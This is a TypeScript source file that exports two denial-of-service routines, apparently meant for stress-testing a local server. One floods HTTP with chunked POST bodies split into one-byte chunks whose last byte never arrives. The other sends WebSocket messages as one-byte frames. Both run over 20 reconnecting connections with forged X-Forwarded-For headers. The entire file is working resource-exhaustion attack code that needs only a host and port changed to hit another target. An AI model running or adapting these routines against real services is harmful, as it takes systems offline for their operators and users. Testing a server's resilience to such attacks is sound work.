import { connect, type Socket } from "node:net";

/** Attacks whose bytes arrive in pieces of one byte: each piece costs objects of more than 100 bytes, unless it is joined. */
const CONNECTIONS = 20;
const BODY_BYTES = 5_000_000;
const PIECES_A_WRITE = 10_000;
const PAUSE_MS = 1_000;

const HTTP_PIECES = Buffer.from("1\r\n \r\n".repeat(PIECES_A_WRITE));
/** Frames of a client that is masked with zeros: a text that goes on (RFC 6455, section 5.2). */
const FIRST_FRAME = Buffer.from([0x01, 0x81, 0, 0, 0, 0, 0x20]);
const NEXT_FRAME = Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0x20]);
const WEBSOCKET_PIECES = Buffer.concat(Array.from({ length: PIECES_A_WRITE }, () => NEXT_FRAME));

/** Sends the pieces as fast as they are read, up to BODY_BYTES. Then the connection stays, and waits. */
const sendPieces = (socket: Socket, pieces: Buffer): void => {
  let sent = 0;
  const send = (): void => {
    while (sent < BODY_BYTES && !socket.destroyed) {
      sent += PIECES_A_WRITE;
      if (!socket.write(pieces)) {
        socket.once("drain", send);
        return;
      }
    }
  };
  send();
};

const repeat = (port: number, head: string, begin: (socket: Socket) => void): void => {
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => undefined);
  socket.once("close", () => {
    setTimeout(() => repeat(port, head, begin), PAUSE_MS);
  });
  socket.write(head);
  begin(socket);
};

/** Bodies of 5 MB in HTTP chunks of one byte. Their last byte does not arrive. */
const chunks = (port: number): void => {
  const head =
    "POST / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.20\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
  for (let index = 0; index < CONNECTIONS; index++) {
    repeat(port, head, (socket) => {
      socket.resume();
      sendPieces(socket, HTTP_PIECES);
    });
  }
};

/** WebSocket messages of frames of one byte. */
const frames = (port: number): void => {
  const head =
    "GET / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.21\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n";
  for (let index = 0; index < CONNECTIONS; index++) {
    repeat(port, head, (socket) => {
      socket.once("data", () => {
        socket.resume();
        socket.write(FIRST_FRAME);
        sendPieces(socket, WEBSOCKET_PIECES);
      });
    });
  }
};

export const PIECE_ATTACKS = { chunks, frames } as const;
